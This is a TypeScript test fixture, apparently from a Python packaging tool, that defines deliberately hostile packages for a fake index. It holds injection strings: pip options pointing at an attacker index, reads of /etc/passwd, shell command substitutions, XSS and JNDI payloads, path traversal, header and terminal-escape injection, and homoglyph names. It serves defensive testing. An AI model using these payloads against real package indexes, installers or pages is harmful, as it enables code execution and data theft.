import type { HermeticPackage } from "./definition";

/**
 * Input that an attacker can upload to a public index. PEP 508 keeps project names safe; file contents, requirement lines,
 * reasons and specifiers may be anything. None of it may reach a shell, a pip option, a page or a terminal unescaped.
 */
const requirementLines = [
  "--index-url=https://attacker.invalid/simple",
  "--extra-index-url https://attacker.invalid/simple",
  "-r /etc/passwd",
  "-e .",
  "$(touch pwned)",
  "`touch pwned`",
  "; touch pwned",
  "sandbox-leaf==1.0; touch pwned",
  "sandbox-leaf' || touch pwned '",
  "<script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  "../../../../etc/passwd",
  "${jndi:ldap://attacker.invalid/x}",
  "sandbox-leaf @ file:///etc/passwd",
  // Cyrillic "е" in requests; a right-to-left override; a zero-width space.
  "r\u0435quests>=2",
  "sandbox-\u202eleaf",
  "sandbox-leaf\u200b",
  `sandbox-leaf${"[".repeat(200)}`,
  "a".repeat(20_000),
];

export const hostilePackages: readonly HermeticPackage[] = [
  { name: "sandbox-hostile-requires", releases: [{ version: "1.0", requires: requirementLines }] },
  {
    name: "sandbox-hostile-newline",
    releases: [{ version: "1.0", summary: "harmless\nRequires-Dist: sandbox-injected==6.6.6\nName: requests\n\nName: second-body" }],
  },
  {
    name: "sandbox-hostile-name",
    releases: [{ version: "1.0", rawHeaders: ["Name: sandbox-hostile-name; touch pwned", "Version: 1.0$(touch pwned)"] }],
  },
  { name: "sandbox-hostile-other-name", releases: [{ version: "1.0", rawHeaders: ["Name: requests", "Version: 2.19.1"] }] },
  {
    name: "sandbox-hostile-html",
    releases: [
      {
        version: "1.0",
        summary: "</title><script>alert('summary')</script>",
        description: "<iframe src='https://attacker.invalid'></iframe>\n",
      },
      { version: "1.1", requiresPython: '>=3.6"><script>alert(1)</script>' },
      { version: "1.2", requiresPython: ">=3.6,,not a specifier" },
      { version: "1.3", yanked: "\"><script>alert('yanked')</script>\nsecond line & <b>bold</b>" },
    ],
  },
  {
    name: "sandbox-hostile-terminal",
    releases: [
      {
        version: "1.0",
        summary: "\u001b[2J\u001b[31mYou have been owned\u001b]0;title\u0007\r overwritten",
        yanked: "\u001b[1A\u001b[2Kgone",
      },
    ],
  },
  {
    name: "sandbox-hostile-huge",
    releases: [
      { version: "1.0", requires: Array.from({ length: 5000 }, (_, number) => `sandbox-bulk-${String(number).padStart(4, "0")}>=1`) },
      { version: "1.1", description: "all work and no play\n".repeat(100_000) },
    ],
  },
  {
    name: "sandbox-hostile-versions",
    releases: [{ version: "1.0+touch.pwned" }, { version: "99999999999!1" }, { version: Array.from({ length: 60 }, () => "1").join(".") }],
  },
  // The build tag is the only part of a wheel's file name that may be any text, as long as it begins with a digit.
  { name: "sandbox-hostile-files", releases: [{ version: "1.0", wheels: ["1$(touch pwned);`id`&'\"<b>%2e%2e#?-py3-none-any"] }] },
  { name: "sandbox-hostile-paths", releases: [{ version: "1.0", wheelFiles: { "../../pwned.txt": "outside", "/pwned.txt": "root" } }] },
  { name: "sandbox-hostile-no-metadata", releases: [{ version: "1.0", rawHeaders: ["", "This is a body without headers."] }] },
];
